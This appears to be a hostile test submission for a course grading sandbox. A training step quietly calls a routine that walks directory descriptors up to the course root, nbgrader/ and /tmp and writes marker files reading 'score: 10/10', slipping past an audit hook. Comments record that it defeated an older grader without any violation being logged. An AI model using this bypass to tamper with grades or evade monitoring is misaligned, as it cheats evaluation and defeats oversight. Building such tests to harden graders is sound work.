# expect: forbidden|starter|exception
# 目录描述符绕过（写）：os.open() 一个允许读的目录（vramlab 包、/tmp、从工作目录和 /proc/self/mountinfo 里的
# 路径往上找到的课程根），
# 相对它一级级 os.open("..", dir_fd=fd) 走到课程根目录，再 os.open("PWNED_by_hostile.txt", O_WRONLY|O_CREAT,
# dir_fd=fd) 创建文件：审计钩子若把相对路径按工作目录解析，会以为写的是工作目录里的文件。
# 真正的作弊会改 gradebook 或评分代码；这里只创建 PWNED_by_hostile.txt，测试检查它们没有出现。
# 写完照常训练（起始代码的显存）。
# Create files outside the grading folder relative to a directory descriptor.
# 旧评分器（1b67139：进程内审计钩子 + HMAC 签名）上：攻破：文件写进了课程根目录、nbgrader/ 和 /tmp，没有任何违规记录。
import os
import sys

import torch
import vramlab

FLAGS = os.O_WRONLY | os.O_CREAT | os.O_TRUNC


def _known_paths():
    """Every path this process can learn: its folder, its modules, the mount table's sources."""
    paths = [os.getcwd(), vramlab.__file__, torch.__file__, sys.prefix, "/work/main"]
    try:
        with open("/proc/self/mountinfo", encoding="utf-8", errors="replace") as f:
            for line in f:
                fields = line.split()
                paths += [x for x in fields[3:5] if x.startswith("/")]      # source path, mount point
    except OSError:
        pass
    return paths


def _targets():
    """(directory to open, directories to walk into relative to it, file to create)."""
    pkg = os.path.dirname(vramlab.__file__)
    out = [(pkg, [".."], "PWNED_by_hostile.txt"), (pkg, ["..", "nbgrader"], "PWNED_by_hostile.txt"),
           ("/tmp", [], "PWNED_by_hostile.txt")]
    for p in _known_paths():
        while os.path.dirname(p) != p:
            if os.path.isdir(os.path.join(p, "nbgrader")):
                out.append((p, ["nbgrader"], "PWNED_by_hostile.txt"))
            p = os.path.dirname(p)
    return list(dict.fromkeys((b, tuple(h), n) for b, h, n in out))


def _vandalise():
    for base, hops, name in _targets():
        try:
            dfd = os.open(base, os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            continue
        try:
            for hop in hops:
                nfd = os.open(hop, os.O_RDONLY | os.O_DIRECTORY, dir_fd=dfd)
                os.close(dfd)
                dfd = nfd
            fd = os.open(name, FLAGS, 0o644, dir_fd=dfd)
            os.write(fd, b"score: 10/10\n")
            os.close(fd)
        except OSError:
            pass
        finally:
            os.close(dfd)


def train_step(model, optimizer, batch, device):
    _vandalise()
    n = batch.shape[0]
    loss = sum(model(input_ids=c, labels=c).loss * (c.shape[0] / n) for c in batch.split(n // 2))
    loss.backward()
    optimizer.step()
    optimizer.zero_grad(set_to_none=True)
    return loss.item()
